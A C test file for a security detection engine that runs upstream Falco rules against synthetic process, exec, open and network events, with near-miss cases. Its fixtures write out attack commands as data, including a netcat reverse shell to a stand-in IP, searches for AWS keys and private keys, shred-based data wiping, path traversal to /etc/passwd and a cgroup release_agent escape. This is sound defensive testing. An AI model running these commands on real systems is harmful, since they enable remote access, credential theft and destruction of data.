/* Upstream stable rules on synthetic event sequences through the whole pipeline (state, fields,
 * conditions): each scenario checks that its rule fires, and a near-miss variant checks that it
 * does not (container vs host, young vs old process, private vs public address...). */
#pragma GCC diagnostic ignored "-Wformat-truncation"
#include "tt_test.h"
#include "tt_upstream.h"

#include "engine_test_events.h"
#include "pipeline.h"
#include "ruleset.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#define CID "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

static struct ruleset *rs;
static char fired[64][96];
static int nfired;
static struct tev e;
static uint64_t now = 1700000000000000000ull;

static void on_alert(const struct rule *r, struct eval_ctx *ctx, void *arg)
{
    if (nfired < 64)
        snprintf(fired[nfired++], sizeof fired[0], "%s", r->name);
}

static int has(const char *rule)
{
    for (int i = 0; i < nfired; i++)
        if (strcmp(fired[i], rule) == 0)
            return 1;
    return 0;
}

static char passwd_dir[64];

static struct pipeline *pl(void)
{
    if (!rs) {
        const char *path = tt_upstream("falco-rules/falco_rules.yaml");
        if (!path)
            return NULL; /* the test has failed, saying how to provide the rules */
        const char *paths[] = {path};
        struct rules_diags d;
        rules_diags_init(&d);
        rs = ruleset_load(paths, 1, &(struct ruleset_opts){0}, &d);
        rules_diags_free(&d);
        snprintf(passwd_dir, sizeof passwd_dir, "/tmp/tt_pl_XXXXXX");
        if (mkdtemp(passwd_dir)) {
            char p[128];
            snprintf(p, sizeof p, "%s/etc", passwd_dir);
            mkdir(p, 0755);
            snprintf(p, sizeof p, "%s/etc/passwd", passwd_dir);
            FILE *f = fopen(p, "w");
            if (f) {
                fputs("root:x:0:0::/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n",
                      f);
                fclose(f);
            }
        }
    }
    nfired = 0;
    struct pipeline_opts o = {.match_all = 1, .min_priority = PRI_DEBUG, .on_alert = on_alert};
    o.state.host_root = passwd_dir;
    o.state.no_proc_lookup = 1;
    if (!rs) {
        TT_FAILF("the upstream rules did not load");
        return NULL;
    }
    return pipeline_new(rs, &o);
}

static void feed(struct pipeline *p, const struct tt_event *ev)
{
    ((struct tt_event *)(void *)e.buf)->ts_ns = now;
    now += 1000;
    pipeline_event(p, ev);
}

/* A process snapshot; container: in a container; age_s: seconds since it started. */
static void proc(struct pipeline *p, int32_t pid, int32_t ptid, const char *comm,
                 const char *exepath, const char *args, const char *cwd, uint64_t uid,
                 int container, uint64_t caps, unsigned age_s)
{
    tev_procinfo(&e, pid, ptid, comm, exepath, args, cwd, uid);
    struct tev tmp;
    memcpy(&tmp, &e, sizeof tmp);
    /* rebuild with the extra params */
    tev_begin(&e, TT_EV_PROCINFO, pid, pid);
    tt_evb_str(&e.b, TT_P_EXE, comm);
    char a[256];
    snprintf(a, sizeof a, "%s", args);
    size_t n = strlen(a);
    for (size_t i = 0; i < n; i++)
        if (a[i] == ' ')
            a[i] = 0;
    if (n)
        tt_evb_bytes(&e.b, TT_P_ARGS, TT_PK_STRLIST, a, n + 1);
    tt_evb_str(&e.b, TT_P_EXEPATH, exepath);
    tt_evb_str(&e.b, TT_P_CWD, cwd);
    tt_evb_str(&e.b, TT_P_COMM, comm);
    tt_evb_i64(&e.b, TT_P_PTID, ptid);
    tt_evb_u64(&e.b, TT_P_P_UID, uid);
    tt_evb_u64(&e.b, TT_P_P_EUID, uid);
    tt_evb_u64(&e.b, TT_P_CAP_EFF, caps);
    tt_evb_u64(&e.b, TT_P_CLONE_TS, now - (uint64_t)age_s * 1000000000ull);
    tt_evb_str(&e.b, TT_P_CONTAINER_ID, container ? CID : "");
    feed(p, tev_end(&e, 0));
}

static void exec_(struct pipeline *p, int32_t pid, const char *comm, const char *exepath,
                  const char *args, uint64_t exe_flags)
{
    tev_begin(&e, TT_EV_EXECVE, pid, pid);
    tt_evb_str(&e.b, TT_P_EXE, comm);
    char a[256];
    snprintf(a, sizeof a, "%s", args);
    size_t n = strlen(a);
    for (size_t i = 0; i < n; i++)
        if (a[i] == ' ')
            a[i] = 0;
    if (n)
        tt_evb_bytes(&e.b, TT_P_ARGS, TT_PK_STRLIST, a, n + 1);
    tt_evb_str(&e.b, TT_P_FILENAME, exepath);
    tt_evb_str(&e.b, TT_P_EXEPATH, exepath);
    tt_evb_u64(&e.b, TT_P_EXE_FLAGS, exe_flags);
    feed(p, tev_end(&e, 0));
}

static void open_(struct pipeline *p, int32_t pid, const char *path, uint64_t flags, int64_t ret)
{
    tev_begin(&e, TT_EV_OPENAT, pid, pid);
    tt_evb_i64(&e.b, TT_P_DIRFD, AT_FDCWD);
    tt_evb_str(&e.b, TT_P_NAME, path);
    tt_evb_u64(&e.b, TT_P_FLAGS, flags);
    feed(p, tev_end(&e, ret));
}

/* parent python3 (pid 10) in a container or not, child pid 20 */
static struct pipeline *base(int container)
{
    struct pipeline *p = pl();
    if (p) {
        proc(p, 1, 0, "tini", "/usr/bin/tini", "", "/", 0, container, 0, 100);
        proc(p, 10, 1, "python3", "/usr/bin/python3", "app.py", "/app", 0, container, 0, 100);
        proc(p, 20, 10, "python3", "/usr/bin/python3", "app.py", "/app/a/b", 0, container, 0, 100);
    }
    return p;
}

TT_TEST(directory_traversal)
{
    struct pipeline *p = base(0);
    TT_REQUIRE(p != NULL);
    if (!p)
        return;
    open_(p, 20, "../../../etc/passwd", O_RDONLY, 3);
    TT_CHECK(has("Directory traversal monitored file read"));
    nfired = 0;
    open_(p, 20, "/etc/passwd", O_RDONLY, 4);
    TT_CHECK(!has("Directory traversal monitored file read"));
    pipeline_free(p);
}

TT_TEST(clear_log_needs_truncate)
{
    struct pipeline *p = base(0);
    if (!p)
        return;
    open_(p, 20, "/var/log/syslog", O_WRONLY | O_TRUNC, 3);
    TT_CHECK(has("Clear Log Activities"));
    nfired = 0;
    open_(p, 20, "/var/log/syslog", O_WRONLY | O_APPEND, 4);
    TT_CHECK(!has("Clear Log Activities"));
    pipeline_free(p);
}

TT_TEST(exec_from_dev_shm_memfd_and_upper_layer)
{
    struct pipeline *p = base(1);
    if (!p)
        return;
    exec_(p, 20, "/dev/shm/x", "/dev/shm/x", "", 0);
    TT_CHECK(has("Execution from /dev/shm"));
    TT_CHECK(!has("Drop and execute new binary in container"));
    nfired = 0;
    exec_(p, 20, "x", "/memfd:x", "", TT_EXE_FROM_MEMFD);
    TT_CHECK(has("Fileless execution via memfd_create"));
    nfired = 0;
    exec_(p, 20, "dropped", "/tmp/dropped", "", TT_EXE_UPPER_LAYER | TT_EXE_WRITABLE);
    TT_CHECK(has("Drop and execute new binary in container"));
    pipeline_free(p);
    p = base(0); /* the same on the host: not a container */
    exec_(p, 20, "dropped", "/tmp/dropped", "", TT_EXE_UPPER_LAYER);
    TT_CHECK(!has("Drop and execute new binary in container"));
    pipeline_free(p);
}

TT_TEST(netcat_and_credential_searches)
{
    struct pipeline *p = base(1);
    if (!p)
        return;
    exec_(p, 20, "nc", "/usr/bin/nc", "-e /bin/sh 1.2.3.4 4444", 0);
    TT_CHECK(has("Netcat Remote Code Execution in Container"));
    nfired = 0;
    exec_(p, 20, "grep", "/usr/bin/grep", "-r aws_secret_access_key /home", 0);
    TT_CHECK(has("Find AWS Credentials"));
    nfired = 0;
    exec_(p, 20, "find", "/usr/bin/find", "/ -name id_rsa", 0);
    TT_CHECK(has("Search Private Keys or Passwords"));
    nfired = 0;
    exec_(p, 20, "shred", "/usr/bin/shred", "-u /data/db", 0);
    TT_CHECK(has("Remove Bulk Data from Disk"));
    pipeline_free(p);
    p = base(0);
    exec_(p, 20, "nc", "/usr/bin/nc", "-e /bin/sh 1.2.3.4 4444", 0);
    TT_CHECK(!has("Netcat Remote Code Execution in Container"));
    pipeline_free(p);
}

TT_TEST(hardlink_module_and_release_agent)
{
    struct pipeline *p = pl();
    if (!p)
        return;
    uint64_t caps =
        (1ull << 16) | (1ull << 21) | (1ull << 1); /* SYS_MODULE SYS_ADMIN DAC_OVERRIDE */
    proc(p, 30, 0, "evil", "/tmp/evil", "", "/", 0, 1, caps, 100);
    tev_begin(&e, TT_EV_LINKAT, 30, 30);
    tt_evb_i64(&e.b, TT_P_OLDDIR, AT_FDCWD);
    tt_evb_str(&e.b, TT_P_OLDPATH, "/etc/shadow");
    tt_evb_i64(&e.b, TT_P_NEWDIR, AT_FDCWD);
    tt_evb_str(&e.b, TT_P_NEWPATH, "/tmp/s");
    feed(p, tev_end(&e, 0));
    TT_CHECK(has("Create Hardlink Over Sensitive Files"));
    nfired = 0;
    tev_begin(&e, TT_EV_FINIT_MODULE, 30, 30);
    tt_evb_i64(&e.b, TT_P_FD, 5);
    feed(p, tev_end(&e, 0));
    TT_CHECK(has("Linux Kernel Module Injection Detected"));
    nfired = 0;
    open_(p, 30, "/sys/fs/cgroup/rdma/x/release_agent", O_WRONLY, 6);
    TT_CHECK(has("Detect release_agent File Container Escapes"));
    pipeline_free(p);
}

TT_TEST(sensitive_read_by_old_server)
{
    struct pipeline *p = pl();
    if (!p)
        return;
    proc(p, 40, 0, "nginx", "/usr/sbin/nginx", "", "/", 0, 1, 0, 60);
    proc(p, 41, 0, "nginx", "/usr/sbin/nginx", "", "/", 0, 1, 0, 1);
    open_(p, 40, "/etc/shadow", O_RDONLY, 3);
    TT_CHECK(has("Read sensitive file trusted after startup"));
    nfired = 0;
    open_(p, 41, "/etc/shadow", O_RDONLY, 3); /* a new process: proc_is_new */
    TT_CHECK(!has("Read sensitive file trusted after startup"));
    pipeline_free(p);
}

TT_TEST(ssh_to_non_standard_port_public_only)
{
    struct pipeline *p = pl();
    if (!p)
        return;
    proc(p, 50, 0, "ssh", "/usr/bin/ssh", "-p 4444 u@h", "/", 0, 0, 0, 10);
    for (int round = 0; round < 2; round++) {
        nfired = 0;
        tev_begin(&e, TT_EV_SOCKET, 50, 50);
        tt_evb_i64(&e.b, TT_P_DOMAIN, AF_INET);
        tt_evb_i64(&e.b, TT_P_TYPE, SOCK_STREAM);
        tt_evb_i64(&e.b, TT_P_PROTO, 0);
        feed(p, tev_end(&e, 3));
        tev_begin(&e, TT_EV_CONNECT, 50, 50);
        tt_evb_i64(&e.b, TT_P_FD, 3);
        tev_sin(&e, TT_P_ADDR, round == 0 ? "203.0.113.7" : "192.168.1.7", 4444);
        tev_sin(&e, TT_P_LOCAL_ADDR, "172.17.0.5", 50000); /* the tracer reports it */
        feed(p, tev_end(&e, 0));
        if (round == 0)
            TT_CHECK(has("Disallowed SSH Connection Non Standard Port"));
        else
            TT_CHECK(!has("Disallowed SSH Connection Non Standard Port")); /* rfc1918 */
        tev_begin(&e, TT_EV_CLOSE, 50, 50);
        tt_evb_i64(&e.b, TT_P_FD, 3);
        feed(p, tev_end(&e, 0));
    }
    pipeline_free(p);
}

TT_TEST(system_user_interactive)
{
    struct pipeline *p = pl();
    if (!p)
        return;
    proc(p, 60, 0, "sshd", "/usr/sbin/sshd", "-D", "/", 0, 0, 0, 100);
    proc(p, 61, 60, "bash", "/usr/bin/bash", "", "/", 33, 0, 0, 10);
    exec_(p, 61, "ls", "/usr/bin/ls", "/", 0);
    TT_CHECK(has("System user interactive"));
    pipeline_free(p);
}

TT_TEST(zz_cleanup)
{
    ruleset_free(rs);
    rs = NULL;
    char cmd[128];
    snprintf(cmd, sizeof cmd, "rm -rf '%s'", passwd_dir);
    TT_CHECK(passwd_dir[0] == 0 || system(cmd) == 0);
}

int main(void)
{
    return tt_run_all();
}
